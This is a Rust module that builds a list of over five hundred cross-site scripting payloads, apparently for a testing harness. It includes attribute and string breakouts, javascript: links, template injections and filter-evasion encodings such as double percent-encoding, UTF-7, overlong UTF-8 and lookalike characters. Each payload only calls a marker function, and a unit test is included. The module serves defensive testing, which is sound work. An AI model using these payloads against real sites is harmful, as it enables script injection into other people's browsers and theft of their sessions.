use super::{
    careless::{self, Careless, PLACES},
    elements::ELEMENTS,
};

/// How code says that it ran; `NUMBER` is the payload's.
const CODES: [&str; 8] = [
    "ran(NUMBER)",
    "ran`NUMBER`",
    "top.ran(NUMBER)",
    "self['ran'](NUMBER)",
    "(0,ran)(NUMBER)",
    "eval('ran(NUMBER)')",
    "Function`ran(NUMBER)```",
    "[NUMBER].map(ran)",
];
/// Of what can be said in many ways, each place gets every second one.
const EVERY: usize = 2;

/// Hostile words.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Payload {
    /// One line of at most [`Payload::LONGEST`] characters, none of them a control character, without blanks around.
    pub text: String,
    /// By which it tells that it ran.
    pub number: usize,
    /// Where it runs.
    pub place: Careless,
}

impl Payload {
    /// In characters: what a voucher's note holds.
    pub const LONGEST: usize = 200;

    /// A page that lets it through.
    #[must_use]
    pub fn careless_page(&self) -> String {
        self.place.page(&self.text)
    }
}

/// More than five hundred, all different, numbered from zero.
#[must_use]
pub fn payloads() -> Vec<Payload> {
    let mut list = List(Vec::new());
    for (number, (end, place)) in PLACES.into_iter().enumerate() {
        for (element, text) in ELEMENTS.into_iter().enumerate() {
            if end.is_empty() || (element + number) % EVERY == 0 {
                list.add(place, &format!("{end}{text}"), CODES[(element + number) / EVERY % CODES.len()]);
            }
        }
    }
    for (number, (place, text)) in OTHERS.into_iter().enumerate() {
        for code in CODES.into_iter().skip(number % EVERY).step_by(EVERY) {
            list.add(place, text, code);
        }
    }
    list.0
}

/// Those that end no element: in attributes, in code, in addresses, in style, and encoded in some way.
const OTHERS: [(Careless, &str); 37] = [
    (careless::DOUBLE_QUOTED, "\" onerror=CODE x=\""),
    (careless::SINGLE_QUOTED, "' onerror=CODE x='"),
    (careless::UNQUOTED, "x onerror=CODE"),
    (careless::LINK, "javascript:CODE"),
    (careless::LINK, "&#x6a;avascript:CODE"),
    (careless::LINK, "java&NewLine;script:CODE"),
    (careless::LINK, "javascript:/*x*/CODE"),
    (careless::HANDLER, "');CODE//"),
    (careless::HANDLER, "&#39;);CODE//"),
    (careless::HANDLER, "&apos;,CODE,&apos;"),
    (careless::STYLE, "red\" onmouseover=CODE x=\""),
    (careless::IN_DOUBLE_QUOTES, "\";CODE//"),
    (careless::IN_DOUBLE_QUOTES, "\"-CODE-\""),
    (careless::IN_SINGLE_QUOTES, "';CODE//"),
    (careless::IN_SINGLE_QUOTES, "'-CODE-'"),
    (careless::IN_BACKTICKS, "${CODE}"),
    (careless::IN_BACKTICKS, "`-CODE-`"),
    (careless::IN_CODES_COMMENT, "*/CODE/*"),
    (careless::BACKSLASHED, "\\\";CODE//"),
    (careless::PERCENT, "%3Cimg src=x onerror=CODE%3E"),
    (careless::TWICE_PERCENT, "%253Cimg src=x onerror=CODE%253E"),
    (careless::ENTITIES, "&lt;img src=x onerror=CODE&gt;"),
    (careless::ENTITIES, "&#60;svg/onload=CODE&#62;"),
    (careless::ENTITIES, "&#x0000003cimg src=x onerror=CODE&#x3E"),
    (careless::ESCAPES, "\\x3cimg src=x onerror=CODE\\x3e"),
    (careless::ESCAPES, "\\u003csvg/onload=CODE\\u{3e}"),
    (careless::LOOKALIKES, "\u{ff1c}img src=x onerror=CODE\u{ff1e}"),
    (careless::LOOKALIKES, "\u{fe64}\u{ff53}vg/onload=CODE\u{fe65}"),
    (careless::OVERLONG, "%C0%BCimg src=x onerror=CODE%C0%BE"),
    (careless::SEVEN_BITS, "+ADw-img src=x onerror=CODE+AD4-"),
    (careless::TEMPLATE, "{{CODE}}"),
    (careless::TEMPLATE, "*{CODE}"),
    (careless::TEMPLATE, "{%CODE%}"),
    (careless::TEMPLATE, "@(CODE)"),
    (careless::TEMPLATE, "<%= CODE %>"),
    (careless::TEMPLATE, "#{CODE}"),
    (careless::MARKDOWN, "[x](javascript:CODE)"),
];

struct List(Vec<Payload>);

impl List {
    fn add(&mut self, place: Careless, text: &str, code: &str) {
        let number = self.0.len();
        let text = text.replace("CODE", code).replace("NUMBER", &number.to_string());
        self.0.push(Payload { text, number, place });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::BTreeSet;

    #[test]
    fn they_are_more_than_five_hundred_and_all_different_and_fit_into_a_field() {
        let payloads = payloads();
        let shapes: BTreeSet<&str> = payloads.iter().map(|payload| payload.text.as_str()).collect();
        assert!(payloads.len() >= 500 && shapes.len() == payloads.len(), "{}", shapes.len());
        for Payload { text, .. } in &payloads {
            assert!(text.chars().count() <= Payload::LONGEST && text.trim() == text, "{text}");
            assert!(!text.chars().any(char::is_control), "{text:?}");
        }
    }
}
